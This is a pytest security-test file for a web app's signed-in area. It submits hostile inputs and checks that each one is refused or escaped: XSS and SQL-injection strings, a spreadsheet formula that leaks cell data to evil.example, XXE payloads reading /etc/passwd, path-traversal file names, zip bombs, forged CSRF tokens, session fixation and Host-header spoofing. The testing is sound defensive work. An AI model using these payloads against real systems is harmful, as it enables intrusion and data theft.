"""Attack inputs against the signed-in part of the web app, on SQLite and on PostgreSQL: each is refused
with a clear message and nothing is stored — or, for text that merely contains HTML or SQL, stored as text
and shown escaped.

Script tags and SQL metacharacters in notes, control characters, oversized and malformed uploads (wrong
type, renamed files, zip bombs, XML entities, macros, path names), a forged or missing CSRF token and
requests from another site, replayed expired or used invitations, password guessing, session fixation,
open redirects, caching of private pages.
"""

from __future__ import annotations

import io
import logging
import zipfile
from typing import Any

import pytest

from tests.assess_fixtures import (
    PASSWORD,
    Clients,
    World,
    api,
    backend,
    counts,
    csrf_of,
    files_in,
    pg_cluster,
    settings,
    web,
    world,
)

FIXTURES = (backend, pg_cluster, web, world)  # used by the tests below, by name


def _save(web: Clients, who: str, uid: str, item: str, **fields: Any) -> Any:
    from migcap.capacity.assessments import get_assessment

    version = get_assessment(uid).entry(item).version
    data = {"csrf_token": web.csrf(who), "version": str(version), "level": "", "evidence": "", "notes": "",
            "assessor": "", "assessed_on": ""}
    data.update({k: str(v) for k, v in fields.items()})
    return web(who).post(f"/assess/{uid}/items/{item}", data=data, headers={"Accept": "application/json"})


# ----------------------------------------------------------------------------------- text


def test_script_tags_are_stored_as_text_and_shown_escaped(web: Clients, world: World) -> None:
    evil = ('<script>alert("x")</script><img src=x onerror=alert(1)> javascript:alert(2) '
            'https://ok.example/a?b=1&c=2')
    r = _save(web, "a_editor", world.a_work, "INT-01", level="partial", evidence=evil,
              notes="</textarea><script>1</script>")
    assert r.status_code == 200, r.text
    assert r.json()["entry"]["evidence"] == evil  # kept exactly as typed
    for path in ("/area/INT", "/history", "/items/INT-01/diff"):
        html = web("a_viewer").get(f"/assess/{world.a_work}{path}").text
        assert ("<script>alert" not in html and "<img src=x" not in html
                and "</textarea><script>" not in html), path
        assert "&lt;script&gt;" in html, path
        assert 'href="javascript:' not in html
    html = web("a_viewer").get(f"/assess/{world.a_work}/area/INT").text
    # links work
    assert '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">' in html
    # a comment and a file name with HTML
    r = web("a_editor").post(f"/assess/{world.a_work}/comments",
                             data={"csrf_token": web.csrf("a_editor"),
                                   "body": "<b onmouseover=alert(1)>hi</b>", "item": "INT-01"})
    assert r.status_code == 303
    r = web("a_editor").post(f"/assess/{world.a_work}/items/INT-01/attachments",
                             data={"csrf_token": web.csrf("a_editor")},
                             files={"file": ('<img src=x onerror=alert(3)>.pdf', b"%PDF-1.4 x",
                                             "application/pdf")})
    assert r.status_code == 303, r.text[:300]
    html = web("a_viewer").get(f"/assess/{world.a_work}/area/INT").text
    assert "<b onmouseover" not in html and "&lt;b onmouseover=alert(1)&gt;" in html
    assert "<img src=x onerror=alert(3)>" not in html and "&lt;img src=x onerror=alert(3)&gt;.pdf" in html


def test_sql_metacharacters_are_plain_text(web: Clients, world: World) -> None:
    from migcap.capacity.assessments import get_assessment

    sql = "'; DROP TABLE capacity_entry; -- \" OR 1=1 /* ) ; DELETE FROM accounts_user; %s %(x)s ?"
    before = counts()
    r = _save(web, "a_editor", world.a_work, "INT-02", level="planned", notes=sql, assessor="O'Brien; --")
    assert r.status_code == 200
    e = get_assessment(world.a_work).entry("INT-02")
    assert e.notes == sql and e.assessor == "O'Brien; --"
    after = counts()
    assert (after["capacity_entry"] == before["capacity_entry"] + 1
            and after["accounts_user"] == before["accounts_user"])
    # in a login, a label, a query parameter
    c = web.anon()
    r = c.post("/login", data={"email": "' OR '1'='1", "password": "' OR '1'='1",
                               "csrf_token": csrf_of(c.get("/login").text)})
    assert r.status_code == 401 and "wrong email or password" in r.text
    r = web("a_editor").post("/assess", data={"csrf_token": web.csrf("a_editor"), "org": world.orgs["A"].slug,
                                              "state": "KEN",
                                              "label": "2025'); DROP TABLE capacity_owner; --"})
    assert r.status_code == 303
    assert "DROP TABLE capacity_owner" in web("a_editor").get(r.headers["location"]).text
    assert web("a_viewer").get(f"/assess/{world.a_work}/history?item=' OR 1=1 --").status_code == 200
    assert counts()["accounts_user"] == before["accounts_user"]


EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def test_exports_write_evidence_as_text_never_as_a_formula(web: Clients, world: World) -> None:
    from openpyxl import load_workbook

    from migcap.capacity import assessments as am
    from migcap.capacity import teamwork

    def evidence_cell(data: bytes, item: str) -> Any:
        ws = load_workbook(io.BytesIO(data))["Assessment"]
        row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == item)
        return ws.cell(row, 7)

    # typed in the browser by a member, downloaded by a member
    r = _save(web, "a_editor", world.a_work, "INT-03", level="partial", evidence=EVIL, notes="=1+1")
    assert r.status_code == 200 and r.json()["entry"]["evidence"] == EVIL
    r = web("a_viewer").get(f"/assess/{world.a_work}/export?format=xlsx")
    cell = evidence_cell(r.content, "INT-03")
    assert r.status_code == 200 and (cell.value, cell.data_type) == (EVIL, "s")
    # published, downloaded by anyone without logging in
    by = world.principals["b_editor"].display
    uid = teamwork.create_for(world.orgs["B"].id, "UGA", by=by, label="B published, hostile").uid
    am.set_item(uid, "LAB-02", level="partial", evidence=EVIL, notes="@SUM(1)", by=by, expected_version=0)
    teamwork.publish(uid, by=world.principals["b_admin"].display)
    r = web.anon().get(f"/assess/{uid}/export?format=xlsx")
    cell = evidence_cell(r.content, "LAB-02")
    assert r.status_code == 200 and (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)
    entry = next(e for e in web.anon().get(f"/assess/{uid}/export?format=json").json()["entries"]
                 if e["item"] == "LAB-02")
    assert (entry["evidence"], entry["notes"]) == (EVIL, "@SUM(1)")   # JSON and YAML keep the text as it is


def test_control_characters_and_overlong_text_are_refused(web: Clients, world: World) -> None:
    before = counts()
    for fields, words in (({"notes": "bad\x00byte"}, "control characters"),
                          ({"evidence": "x" * 10_001}, "longer than 10,000"),
                          ({"level": "excellent"}, "unknown level"),
                          ({"level": "not_applicable"}, "needs a reason"),
                          ({"assessed_on": "1889-01-01"}, "between 1990"),
                          ({"assessed_on": "tomorrow"}, "not a date")):
        r = _save(web, "a_editor", world.a_work, "INT-03", **fields)
        assert r.status_code == 400, (fields, r.status_code)
        assert words in r.json()["error"]["message"], r.json()
    r = web("a_editor").post(f"/assess/{world.a_work}/comments", data={"csrf_token": web.csrf("a_editor"),
                                                                      "body": "nul\x00"})
    assert r.status_code == 400 and "control characters" in r.text
    # the page form shows the problem next to the item, keeping what was typed
    r = web("a_editor").post(f"/assess/{world.a_work}/items/INT-03",
                             data={"csrf_token": web.csrf("a_editor"), "version": "0",
                                   "level": "not_applicable", "notes": "", "evidence": "typed text"})
    assert r.status_code == 400 and "needs a reason in the notes" in r.text and "typed text" in r.text
    assert counts() == before


def test_the_api_refuses_the_dates_the_pages_and_the_import_refuse(web: Clients, world: World) -> None:
    from migcap.capacity.assessments import get_assessment

    before = counts()
    version = get_assessment(world.a_work).entry("INT-04").version
    for day, status, words in (("1850-01-01", 400, "between 1990-01-01 and today"),
                               ("2999-01-01", 400, "between 1990-01-01"),
                               ("31/03/2025", 422, "should match pattern")):  # the schema checks the form
        r = web.anon().put(f"/api/v1/assessments/{world.a_work}/items/INT-04",
                           json={"version": version, "level": "planned", "date": day},
                           headers=api(world.tokens["a_editor"]))
        assert r.status_code == status, (day, r.status_code, r.text[:200])
        assert words in r.text, r.text[:300]
    assert counts() == before


# -------------------------------------------------------------------------------- uploads


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


OOXML = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DTD16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'.encode("utf-16")


def test_every_part_is_checked_by_its_content() -> None:
    """Whatever a part is called and however it is encoded, a document type declaration is refused, and so
    is XML in an encoding Office and OpenDocument files never use; the same XML without one, in UTF-8 or
    UTF-16, passes."""
    from migcap.capacity.uploads import check_upload
    from migcap.errors import InputError

    def docx(part: str, data: bytes) -> bytes:
        return _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>", part: data})

    dtd = '<?xml version="1.0"?><!doctype x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    for part in ("word/document.xml", "customXml/item1.bin", "word/media/image1.png", "docProps/custom",
                 "x.XML"):
        for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"):
            with pytest.raises(InputError, match=r"document type declaration|encoded as UCS-4"):
                check_upload(docx(part, dtd.encode(encoding)), "report.docx", max_bytes=10**6)
    for decl, enc in (("UTF-7", "utf-8"), ("ISO-2022-JP", "utf-8"), ("cp037", "cp037")):
        text = f'<?xml version="1.0" encoding="{decl}"?><x/>'
        with pytest.raises(InputError, match="encoded as"):
            check_upload(docx("customXml/item1.xml", text.encode(enc)), "report.docx", max_bytes=10**6)
    with pytest.raises(InputError, match="document type declaration"):  # split across two chunks of the scan
        check_upload(docx("word/styles.xml", b"<s>" + b" " * (64 * 1024 - 5) + b"<!DOCTYPE s><s/>"), "r.docx",
                     max_bytes=10**6)
    fine = '<?xml version="1.0" encoding="UTF-16" standalone="yes"?><d>caf\xe9 <!-- a comment --></d>'
    for encoding in ("utf-16", "utf-8"):
        name, media = check_upload(docx("word/comments.xml", fine.encode(encoding)), "ok.docx",
                                   max_bytes=10**6)
        assert (name, media.split(".")[-1]) == ("ok.docx", "document")


@pytest.fixture(scope="module")
def small(world: World, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The app with 0.2 MB uploads (to try oversized ones quickly)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from migcap.web import create_app

    app = create_app(settings(tmp_path_factory.mktemp("small"), upload_max_mb=0.2))
    with TestClient(app, raise_server_exceptions=False):
        yield Clients(app, world)


def test_bad_uploads_are_refused_and_nothing_is_stored(small: Clients, world: World) -> None:
    folder = world.backend.data_dir / "attachments"
    before, stored = counts(), files_in(folder)
    big_zeros = _zip({"[Content_Types].xml": OOXML, "xl/workbook.xml": b"<workbook/>",
                      "xl/worksheets/sheet1.xml": b"0" * 30_000_000})
    cases = [
        ("tool.exe", b"MZ\x90\x00", "cannot be attached"),
        ("report.pdf", b"MZ\x90\x00 this is a program", "not that of a .pdf file"),
        ("photo.png", b"%PDF-1.4 not a png", "not that of a .png file"),
        ("notes.txt", "caf\xe9".encode("latin-1"), "not UTF-8"),
        ("data.csv", b"a,b\n1,\x00", "binary data"),
        ("empty.pdf", b"", "is empty"),
        ("bomb.xlsx", big_zeros, "zip bomb"),
        ("entities.docx", _zip({"[Content_Types].xml": b'<?xml version="1.0"?>'
                                                       b'<!DOCTYPE t [<!ENTITY a "aaaa">]>'
                                                       b"<Types>&a;</Types>", "word/document.xml": b"<d/>"}),
         "document type declaration"),
        # as found, these two were accepted: the declaration in UTF-16, or in a part not named .xml
        ("utf16.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": DTD16}),
         "document type declaration"),
        ("custom.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>",
                              "customXml/item1.bin": b'<?xml version="1.0"?>'
                                                     b'<!DOCTYPE x SYSTEM "http://evil.example/'
                                                     b'x.dtd"><x/>'}), "document type declaration"),
        ("macro.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>",
                             "word/vbaProject.bin": b"x"}), "macros"),
        ("broken.docx", b"PK\x03\x04 this is not really a zip", "damaged"),
        ("other.docx", _zip({"[Content_Types].xml": OOXML, "xl/workbook.xml": b"<w/>"}),
         "not that of a .docx"),
        ("escape.xlsx", _zip({"[Content_Types].xml": OOXML, "xl/workbook.xml": b"<w/>",
                              "../../evil.txt": b"x"}),
         "outside the archive"),
        ("huge.pdf", b"%PDF-1.4 " + b"x" * 190_000, None),  # under the limit: accepted (below)
    ]
    token = small.csrf("a_editor")
    for name, data, words in cases:
        r = small("a_editor").post(f"/assess/{world.a_work}/items/ENV-01/attachments",
                                   data={"csrf_token": token},
                                   files={"file": (name, data, "application/octet-stream")},
                                   headers={"Accept": "application/json"})
        if words is None:
            assert r.status_code == 303, (name, r.status_code, r.text[:300])
            continue
        assert r.status_code == 400, (name, r.status_code, r.text[:300])
        assert words in r.json()["error"]["message"], (name, r.json())
    # over the size limit: refused before the body is read (with or without Content-Length)
    r = small("a_editor").post(f"/assess/{world.a_work}/items/ENV-01/attachments", data={"csrf_token": token},
                               files={"file": ("big.pdf", b"%PDF-1.4 " + b"x" * 400_000, "application/pdf")})
    assert r.status_code == 413 and "larger than" in r.text

    def chunks() -> Any:
        yield b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n\r\n%PDF-1.4 "
        for _ in range(50):
            yield b"x" * 10_000
        yield b"\r\n--xyz--\r\n"

    r = small("a_editor").post(f"/assess/{world.a_work}/items/ENV-01/attachments", content=chunks(),
                               headers={"Content-Type": "multipart/form-data; boundary=xyz"})
    assert r.status_code == 413
    r = small("a_editor").post(f"/assess/{world.a_work}/items/ENV-01", content=b"x" * 2_000_000,
                               headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413  # any form: at most 1 MB
    after = counts()
    assert after["capacity_attachment"] == before["capacity_attachment"] + 1  # only huge.pdf
    new_files = sorted(set(files_in(folder)) - set(stored))
    assert len(new_files) == 1 and new_files[0].startswith(world.a_work + "/")


def test_file_names_never_choose_where_files_go(web: Clients, world: World) -> None:
    folder = world.backend.data_dir / "attachments"
    before = set(files_in(world.backend.data_dir))
    for name in ("../../../../etc/passwd.pdf", "..\\..\\windows\\x.pdf", "/abs/path.pdf", "a\x00b.pdf"):
        r = web("a_editor").post(f"/assess/{world.a_work}/items/ENV-02/attachments",
                                 data={"csrf_token": web.csrf("a_editor")},
                                 files={"file": (name, b"%PDF-1.4 p", "application/pdf")})
        assert r.status_code in (303, 400), (name, r.status_code)
    new = sorted(set(files_in(world.backend.data_dir)) - before)
    assert new and all(p.startswith(f"attachments/{world.a_work}/") and len(p.split("/")[-1]) == 32
                       for p in new)
    from migcap.capacity.uploads import attachments

    names = {a.filename for a in attachments(world.a_work) if a.item_id == "ENV-02"}
    assert {"passwd.pdf", "x.pdf", "path.pdf"} <= names
    # downloads are attachments, never rendered by the browser
    att = next(a for a in attachments(world.a_work) if a.filename == "passwd.pdf")
    r = web("a_viewer").get(f"/assess/{world.a_work}/attachments/{att.uid}")
    assert r.status_code == 200 and r.content == b"%PDF-1.4 p"
    assert (r.headers["content-disposition"].startswith("attachment;")
            and r.headers["x-content-type-options"] == "nosniff")
    assert "sandbox" in r.headers["content-security-policy"]
    assert folder.is_dir()


def test_workbook_imports_are_checked_and_all_or_nothing(web: Clients, world: World) -> None:
    from openpyxl import load_workbook

    from migcap.capacity.exchange import export_assessment

    before = counts()
    token = web.csrf("a_editor")

    def upload(name: str, data: bytes) -> Any:
        return web("a_editor").post(f"/assess/{world.a_draft}/import", data={"csrf_token": token},
                                    files={"file": (name, data, "application/octet-stream")})

    r = upload("not-a-workbook.xlsx", b"%PDF-1.4 renamed")
    assert r.status_code == 400 and "not that of a .xlsx file" in r.text
    r = upload("report.pdf", b"%PDF-1.4 x")
    assert r.status_code == 400 and "import needs the Excel workbook" in r.text
    r = upload("other.xlsx", export_assessment(world.a_work, "xlsx"))  # another assessment's workbook
    assert r.status_code == 400 and "belongs to another assessment" in r.text
    r = upload("b.xlsx", export_assessment(world.b_draft, "xlsx"))  # B's workbook into A's assessment
    assert r.status_code == 400 and "belongs to another assessment" in r.text
    wb = load_workbook(io.BytesIO(export_assessment(world.a_draft, "xlsx")))
    ws = wb["Assessment"]
    ws["F3"] = "Establishd"
    ws["F4"] = "not applicable"
    ws["F5"] = "partial"
    buf = io.BytesIO()
    wb.save(buf)
    r = upload("typos.xlsx", buf.getvalue())
    assert r.status_code == 400
    assert "not a level" in r.text and "Establishd" in r.text and "needs a reason in the notes" in r.text
    assert "row 3" in r.text and "row 4" in r.text
    assert counts() == before


# ----------------------------------------------------------------------------------- CSRF


def test_forged_or_missing_csrf_tokens_are_refused(web: Clients, world: World) -> None:
    from migcap.capacity.assessments import get_assessment

    before = counts()
    version = get_assessment(world.a_work).entry("RET-01").version
    good = web.csrf("a_editor")
    other = web.csrf("b_editor")  # a real token, of another session
    anon = csrf_of(web.anon().get("/login").text)
    forged = good[:-4] + ("AAAA" if not good.endswith("AAAA") else "BBBB")
    c = web("a_editor")
    for token in ("", "garbage", other, anon, forged):
        data = {"csrf_token": token, "version": str(version), "level": "absent"}
        r = c.post(f"/assess/{world.a_work}/items/RET-01", data=data)
        assert r.status_code == 403 and "CSRF" in r.text and "nothing was changed" in r.text, \
            (token, r.status_code)
        r = c.post(f"/assess/{world.a_work}/items/RET-01", data={"version": str(version), "level": "absent"},
                   headers={"X-CSRF-Token": token, "Accept": "application/json"})
        assert r.status_code == 403 and r.json()["error"]["type"] == "CsrfError"
        r = c.post(f"/assess/{world.a_work}/comments", data={"csrf_token": token, "body": "x"})
        assert r.status_code == 403
        r = c.post("/account/tokens", data={"csrf_token": token, "name": "stolen"})
        assert r.status_code == 403
    # a valid token, but the browser says the form was on another site
    for header in ({"Origin": "https://evil.example"}, {"Referer": "https://evil.example/page"}):
        r = c.post(f"/assess/{world.a_work}/items/RET-01", data={"csrf_token": good, "version": str(version),
                                                                  "level": "absent"}, headers=header)
        assert r.status_code == 403 and "another site" in r.text
    r = c.post("/logout", data={"csrf_token": other})
    assert r.status_code == 403 and c.get("/account").status_code == 200  # still logged in
    assert counts() == before
    # the API takes no cookies: a browser session alone gets 401
    r = c.put(f"/api/v1/assessments/{world.a_work}/items/RET-01",
              json={"version": version, "level": "absent"})
    assert r.status_code == 401


# ---------------------------------------------------------------------------- invitations


def test_expired_used_and_withdrawn_invitations_are_refused(web: Clients, world: World) -> None:
    from sqlalchemy import update

    from migcap import db
    from migcap.accounts import core
    from migcap.accounts.models import InvitationRow

    a = world.orgs["A"]
    admin = world.principals["a_admin"]
    inv, token = core.invite(a.id, "late@example.org", "editor", by=admin, days=1)
    with db.session_scope(write=True) as s:
        s.execute(update(InvitationRow).where(InvitationRow.uid == inv.uid).values(expires_at=db.now()))
    before = counts()
    c = web.anon()
    r = c.get(f"/invite/{token}")
    assert r.status_code == 400 and "this invitation expired" in r.text
    r = c.post(f"/invite/{token}", data={"csrf_token": csrf_of(c.get("/login").text), "name": "Late",
                                         "password": PASSWORD, "password2": PASSWORD})
    assert r.status_code == 400 and "expired" in r.text
    assert counts() == before and "migcap_session" not in r.headers.get("set-cookie", "")
    # used once, then replayed
    _inv2, token2 = core.invite(a.id, "once@example.org", "viewer", by=admin)
    c = web.anon()
    tok = csrf_of(c.get(f"/invite/{token2}").text)
    r = c.post(f"/invite/{token2}", data={"csrf_token": tok, "name": "Once", "password": PASSWORD,
                                          "password2": PASSWORD})
    assert r.status_code == 303 and "msg=welcome" in r.headers["location"]
    after_first = counts()
    r = web.anon().post(f"/invite/{token2}", data={"csrf_token": csrf_of(web.anon().get("/login").text),
                                                   "name": "Twice", "password": PASSWORD,
                                                   "password2": PASSWORD})
    assert r.status_code in (400, 403)
    c3 = web.anon()
    r = c3.post(f"/invite/{token2}", data={"csrf_token": csrf_of(c3.get("/login").text), "name": "Twice",
                                           "password": PASSWORD, "password2": PASSWORD})
    assert r.status_code == 400 and "already been used" in r.text
    assert counts() == after_first
    # withdrawn, and made-up tokens
    inv3, token3 = core.invite(a.id, "gone@example.org", "viewer", by=admin)
    core.revoke_invitation(a.id, inv3.uid, by=admin)
    assert "withdrawn" in web.anon().get(f"/invite/{token3}").text
    assert "not valid" in web.anon().get(f"/invite/{'x' * 43}").text
    # an invitation for an existing account needs that account's password
    _inv4, token4 = core.invite(world.orgs["B"].id, "a.viewer@example.org", "viewer",
                                by=world.principals["b_admin"])
    c4 = web.anon()
    r = c4.post(f"/invite/{token4}", data={"csrf_token": csrf_of(c4.get(f"/invite/{token4}").text),
                                           "password": "not the password"})
    assert r.status_code == 401 and "wrong password" in r.text
    now = counts()
    assert (now["accounts_user"], now["accounts_membership"]) == (after_first["accounts_user"],
                                                                  after_first["accounts_membership"])


def test_invitation_links_stay_out_of_the_logs(web: Clients, world: World,
                                               caplog: pytest.LogCaptureFixture) -> None:
    from migcap.accounts import core

    _inv, token = core.invite(world.orgs["A"].id, "log@example.org", "viewer", by=world.principals["a_admin"])
    with caplog.at_level(logging.INFO, logger="migcap.web.access"):
        web.anon().get(f"/invite/{token}")
    assert caplog.records and all(token not in (r.getMessage() + str(getattr(r, "fields", "")))
                                  for r in caplog.records)


# -------------------------------------------------------------------------------- logins


def test_password_guessing_is_rate_limited(web: Clients, world: World) -> None:
    from migcap.accounts import core

    core.create_user("guess@example.org", "Target", PASSWORD)
    owner = web.anon()  # the owner logged in from her browser once: it keeps a signed device cookie
    r = owner.post("/login", data={"email": "guess@example.org", "password": PASSWORD,
                                   "csrf_token": csrf_of(owner.get("/login").text)})
    assert r.status_code == 303 and "migcap_device=" in r.headers["set-cookie"]
    owner.post("/logout", data={"csrf_token": csrf_of(owner.get("/account").text)})
    c = web.anon()
    token = csrf_of(c.get("/login").text)
    for _ in range(5):
        r = c.post("/login", data={"email": "guess@example.org", "password": "wrong password!",
                                   "csrf_token": token})
        assert r.status_code == 401 and "wrong email or password" in r.text
    r = c.post("/login", data={"email": "guess@example.org", "password": PASSWORD, "csrf_token": token})
    assert r.status_code == 429 and int(r.headers["retry-after"]) > 60 and "too many failed logins" in r.text
    assert "migcap_session" not in r.headers.get("set-cookie", "")
    # a forged device cookie is no known browser
    c.cookies.set("migcap_device", owner.cookies.get("migcap_device")[:-3] + "xyz", domain="testserver.local")
    r = c.post("/login", data={"email": "guess@example.org", "password": PASSWORD, "csrf_token": token})
    assert r.status_code == 429
    # as found, the owner was locked out too; from her own browser she logs in (and that lifts the lock)
    r = owner.post("/login", data={"email": "guess@example.org", "password": PASSWORD,
                                   "csrf_token": csrf_of(owner.get("/login").text)})
    assert r.status_code == 303, (r.status_code, r.text[:300])
    # others are not locked out
    other = web.anon()
    r = other.post("/login", data={"email": world.users["a_viewer"].email, "password": PASSWORD,
                                   "csrf_token": csrf_of(other.get("/login").text)})
    assert r.status_code == 303


def test_a_reset_link_for_a_member(web: Clients, world: World) -> None:
    """No email server: an admin makes a single-use link on the organisation's page and hands it over."""
    from migcap.accounts import core

    a = world.orgs["A"]
    user = core.create_user("forgot@example.org", "Forgetful", PASSWORD)
    core.add_member(a.id, user.id, "viewer")
    r = web("a_admin").post(f"/orgs/{a.slug}/members/{user.uid}/reset",
                            data={"csrf_token": web.csrf("a_admin")})
    assert r.status_code == 200 and "Password-reset link made for forgot@example.org" in r.text
    token = r.text.split("/invite/")[1].split("<")[0]
    c = web.anon()
    page = c.get(f"/invite/{token}")
    assert page.status_code == 200 and "Choose a new password for <strong>forgot@example.org" in page.text
    r = c.post(f"/invite/{token}", data={"csrf_token": csrf_of(page.text), "password": "a new pass phrase",
                                         "password2": "another one entirely"})
    assert r.status_code == 400 and "differ" in r.text
    r = c.post(f"/invite/{token}", data={"csrf_token": csrf_of(page.text), "password": "a new pass phrase",
                                         "password2": "a new pass phrase"})
    assert r.status_code == 303 and r.headers["location"].endswith("/account?msg=reset")
    assert "new password is set" in c.get("/account?msg=reset").text
    assert core.login("forgot@example.org", "a new pass phrase").uid == user.uid
    assert "already been used" in web.anon().get(f"/invite/{token}").text
    # a reviewer may not make one; the admin of another organisation reaches nothing
    for who, status in (("a_reviewer", 403), ("b_admin", 404)):
        r = web(who).post(f"/orgs/{a.slug}/members/{user.uid}/reset", data={"csrf_token": web.csrf(who)})
        assert r.status_code == status and "/invite/" not in r.text, who


def test_session_cookies_and_redirects(web: Clients, world: World) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    c = web.anon()
    c.cookies.set("migcap_session", "fixed-by-an-attacker", domain="testserver.local")
    r = c.post("/login", data={"email": world.users["a_viewer"].email, "password": PASSWORD,
                               "csrf_token": csrf_of(c.get("/login").text), "next": "//evil.example/x"})
    assert r.status_code == 303 and r.headers["location"] == "/assess"  # never to another site
    cookie = r.headers["set-cookie"]
    assert "migcap_session=" in cookie and "HttpOnly" in cookie and "SameSite=lax" in cookie
    assert "Secure" not in cookie and "fixed-by-an-attacker" not in cookie
    session = c.cookies.get("migcap_session", domain="testserver.local")
    assert session and session != "fixed-by-an-attacker"
    c.post("/logout", data={"csrf_token": csrf_of(c.get("/account").text)})
    stale = web.anon()
    stale.cookies.set("migcap_session", session, domain="testserver.local")
    assert stale.get("/account").status_code == 303  # the session ended on the server
    # behind TLS: __Host- prefix and Secure
    https = TestClient(web.app, base_url="https://testserver", follow_redirects=False)
    r = https.post("/login", data={"email": world.users["a_viewer"].email, "password": PASSWORD,
                                   "csrf_token": csrf_of(https.get("/login").text)})
    assert r.status_code == 303
    assert (r.headers["set-cookie"].startswith("__Host-migcap_session=")
            and "Secure" in r.headers["set-cookie"])
    assert "max-age=" in https.get("/account").headers.get("strict-transport-security", "")


def test_private_pages_have_strict_headers_and_are_never_cached(web: Clients, world: World) -> None:
    r = web("a_viewer").get(f"/assess/{world.a_draft}/review")
    csp = r.headers["content-security-policy"]
    assert "'unsafe-eval'" not in csp and "'unsafe-inline'" not in csp and "script-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp and r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff" and "etag" not in r.headers
    assert "<script>" not in r.text and " on" + "click=" not in r.text  # no inline script or handler
    # the public pages keep their own policy (Vega needs eval) and stay cacheable
    pub = web.anon().get("/capacity")
    assert "'unsafe-eval'" in pub.headers["content-security-policy"] and "etag" in pub.headers
    # what a member saw is never served to someone else from the response cache
    web("a_viewer").get("/assess")
    assert world.a_draft not in web.anon().get("/assess").text
    assert world.a_draft not in web("b_editor").get("/assess").text


# ------------------------------------------------------------------------- the public address


def test_links_use_the_public_address_and_other_hosts_are_refused(
        world: World, tmp_path_factory: pytest.TempPathFactory) -> None:
    """As found: invitation and API links were built from the request's Host header
    (``Host: evil.example`` gave ``http://evil.example/invite/…``). With MIGCAP_WEB_PUBLIC_URL they are
    built from it, and a request for another host is refused with nothing done."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from migcap.web import create_app

    public = "https://migcap.ministry.example"
    app = create_app(settings(tmp_path_factory.mktemp("public"), public_url=public + "/"))
    a = world.orgs["A"]
    evil = {"Host": "evil.example"}
    with TestClient(app, base_url=public, raise_server_exceptions=False, follow_redirects=False) as c:
        r = c.post("/login", data={"email": world.users["a_admin"].email, "password": PASSWORD,
                                   "csrf_token": csrf_of(c.get("/login").text)})
        assert r.status_code == 303 and r.headers["set-cookie"].startswith("__Host-migcap_session=")
        token = csrf_of(c.get(f"/orgs/{a.slug}").text)
        before = counts()
        for path, data in ((f"/orgs/{a.slug}/invitations", {"email": "host@example.org", "role": "viewer"}),
                           ("/login", {"email": world.users["a_admin"].email, "password": PASSWORD})):
            r = c.post(path, data={"csrf_token": token, **data}, headers=evil)
            assert r.status_code == 400 and "another host" in r.json()["error"]["message"], path
            assert "evil.example" not in r.text
        assert counts() == before
        for path in ("/api/v1/stocks?per_page=1", f"/orgs/{a.slug}", "/api/v1/"):
            assert c.get(path, headers=evil).status_code == 400, path
        assert c.get("/healthz", headers={"Host": "10.0.0.7:8000"}).status_code == 200  # load balancers
        r = c.post(f"/orgs/{a.slug}/invitations", data={"csrf_token": token, "email": "host@example.org",
                                                       "role": "viewer"})
        assert (r.status_code == 200 and f"{public}/invite/" in r.text
                and "http://" not in r.text.split("secret")[1])
        r = c.get("/api/v1/stocks?per_page=1")
        assert r.json()["links"]["next"].startswith(f"{public}/api/v1/stocks?")
        # the same host with its default port is the same site; plain http reaches it as https
        assert c.get(f"/orgs/{a.slug}", headers={"Host": "migcap.ministry.example:443"}).status_code == 200
    with pytest.raises(ValueError, match="PUBLIC_URL"):
        settings(tmp_path_factory.mktemp("bad"), public_url="ftp://migcap.example/")
    with pytest.raises(ValueError, match="differs from MIGCAP_WEB_ROOT_PATH"):
        settings(tmp_path_factory.mktemp("bad"), public_url="https://x.example/a", root_path="/b")
    ok = settings(tmp_path_factory.mktemp("ok"), public_url="https://X.example:443/migcap/")
    assert (ok.public_url, ok.root_path) == ("https://x.example/migcap", "/migcap")


def test_invitations_last_at_least_an_hour(web: Clients, world: World) -> None:
    a = world.orgs["A"]
    before = counts()
    for days in ("0.0001", "0", "-1", "nan", "31"):  # 0.0001 days was accepted
        r = web("a_admin").post(f"/orgs/{a.slug}/invitations",
                                data={"csrf_token": web.csrf("a_admin"), "email": "brief@example.org",
                                      "days": days})
        assert r.status_code == 400 and "1 hour to 30 days" in r.text, days
    assert counts() == before
